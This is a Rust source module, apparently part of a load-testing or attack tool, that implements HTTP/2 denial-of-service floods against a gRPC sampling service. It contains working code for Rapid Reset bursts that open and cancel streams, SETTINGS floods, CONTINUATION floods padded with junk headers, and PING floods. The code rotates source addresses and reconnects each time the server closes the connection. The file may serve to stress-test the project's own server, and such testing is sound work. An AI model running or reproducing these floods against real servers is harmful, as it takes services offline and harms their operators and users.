//! Frames without pause.

use tokio::task::yield_now;

use crate::attack::kind::{Kind, Target, together};
use crate::attack::peer::Peer;
use crate::attack::wire::{END_HEADERS, END_STREAM, frame, headers, kind, message};
use crate::load::{Shape, request};

/// Streams that are opened and reset in one write.
const RESETS: u32 = 100;

/// Frames of the other floods in one write.
const FRAMES: usize = 500;

/// The reason CANCEL of RST_STREAM.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// A stream's window: the default of RFC 9113.
const WINDOW: u32 = 65_535;

/// Sends frames of one kind over one connection per source until the end, again and again when
/// the server closes it.
pub(crate) async fn flood(kind: Kind, target: Target) -> String {
    let count = target.sources.len();
    let sums = together(count, |number| connection(kind, target.clone(), number)).await;
    let [frames, connections] = sums[..] else { return "nothing".to_owned() };
    format!("{frames} frames on {connections} connections")
}

async fn connection(kind: Kind, target: Target, number: usize) -> Vec<u64> {
    let (mut frames, mut connections) = (0, 0);
    while target.lasts() {
        let source = target.source(number);
        let Ok(mut peer) = Peer::open(target.server, source, WINDOW).await else {
            yield_now().await;
            continue;
        };
        connections += 1;
        let mut stream = 1;
        while target.lasts() {
            let (bytes, count) = burst(kind, &mut stream);
            if peer.send(&bytes).await.is_err() {
                break;
            }
            frames += count;
            if kind != Kind::PingUnread && peer.drain().is_err() {
                break;
            }
            yield_now().await;
        }
    }
    vec![frames, connections]
}

/// Makes the next write: its bytes and the number of frames in it.
fn burst(attack: Kind, stream: &mut u32) -> (Vec<u8>, u64) {
    match attack {
        Kind::RapidReset | Kind::EmptyReset => {
            let block = headers("/ddpm.v1.SamplingService/Generate", &[]);
            let body = message(&request(&Shape::glyphs(1, 10), 1));
            let mut bytes = Vec::new();
            for _ in 0..RESETS {
                bytes.extend(frame(kind::HEADERS, END_HEADERS, *stream, &block));
                if attack == Kind::RapidReset {
                    bytes.extend(frame(kind::DATA, END_STREAM, *stream, &body));
                }
                bytes.extend(frame(kind::RST_STREAM, 0, *stream, &CANCEL));
                *stream += 2;
            }
            (bytes, u64::from(RESETS))
        }
        Kind::Settings => {
            let max_concurrent_streams = [0, 3, 0, 0, 0, 100];
            (frame(kind::SETTINGS, 0, 0, &max_concurrent_streams).repeat(FRAMES), FRAMES as u64)
        }
        Kind::Continuation => {
            let mut bytes = Vec::new();
            if *stream == 1 {
                let block = headers("/ddpm.v1.SamplingService/Generate", &[]);
                bytes = frame(kind::HEADERS, 0, 1, &block);
                *stream = 3;
            }
            let junk = headers("/", &[("x-a", &"b".repeat(1000))]).repeat(12);
            bytes.extend(frame(kind::CONTINUATION, 0, 1, &junk).repeat(4));
            (bytes, 4)
        }
        _ => (frame(kind::PING, 0, 0, b"12345678").repeat(FRAMES), FRAMES as u64),
    }
}
